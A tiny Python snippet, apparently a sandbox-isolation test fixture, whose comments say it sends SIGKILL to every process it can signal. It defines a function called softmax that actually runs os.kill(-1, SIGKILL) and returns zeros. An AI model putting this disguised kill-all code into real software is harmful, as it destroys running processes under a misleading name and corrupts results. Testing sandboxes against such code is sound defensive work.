# SIGKILL to every process that it may signal.
# needs: namespaces
import os
import signal


def softmax(x):
    os.kill(-1, signal.SIGKILL)
    return x * 0
